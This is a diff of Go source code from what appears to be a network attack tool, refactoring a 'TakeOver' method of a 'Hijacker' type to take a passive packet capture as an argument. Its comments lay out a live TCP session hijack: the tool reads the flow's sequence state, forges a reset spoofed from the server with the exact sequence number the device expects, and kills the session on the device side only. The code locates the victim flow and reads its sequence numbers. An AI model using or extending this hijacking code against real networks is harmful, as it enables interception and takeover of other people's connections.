@@ -12,7 +12,8 @@ import (
 // man-in-the-middle. Installing a hijack before the device connects is
 // silent by construction; against a live session the attacker instead:
 //
-//  1. reads the flow's sequence state from its passive capture,
+//  1. reads the flow's sequence state from c, a passive capture that
+//     has watched the flow since its handshake,
 //  2. forges a single RST to the device, spoofed from the server, with the
 //     exact sequence number the device expects — the device's stack
 //     accepts it and the session dies on the device side only,
@@ -28,16 +29,16 @@ import (
 //
 // TakeOver returns an error if the capture has not seen enough of the flow
 // to forge a valid reset. The hijack (Install) must already be in place.
-func (h *Hijacker) TakeOver() error {
+func (h *Hijacker) TakeOver(c *sniff.Capture) error {
 	if !h.installed {
 		return fmt.Errorf("core: install the hijack before taking over")
 	}
-	flow, ok := h.findVictimFlow()
+	flow, ok := h.findVictimFlow(c)
 	if !ok {
 		return fmt.Errorf("core: no established %s->%s flow observed yet", h.target.DeviceAddr, h.target.ServerAddr)
 	}
 	// The device's rcv.nxt is the server-direction stream position.
-	seq, ok := h.atk.Capture.StreamSeq(flow, sniff.DirServerToClient)
+	seq, ok := c.StreamSeq(flow, sniff.DirServerToClient)
 	if !ok {
 		return fmt.Errorf("core: server->device stream not yet observed")
 	}
@@ -55,8 +56,8 @@ func (h *Hijacker) TakeOver() error {
 	})
 }
 
-func (h *Hijacker) findVictimFlow() (sniff.FlowKey, bool) {
-	for _, flow := range h.atk.Capture.Flows() {
+func (h *Hijacker) findVictimFlow(c *sniff.Capture) (sniff.FlowKey, bool) {
+	for _, flow := range c.Flows() {
 		if flow.Client.Addr == h.target.DeviceAddr &&
 			flow.Server.Addr == h.target.ServerAddr &&
 			flow.Server.Port == h.target.ServerPort {
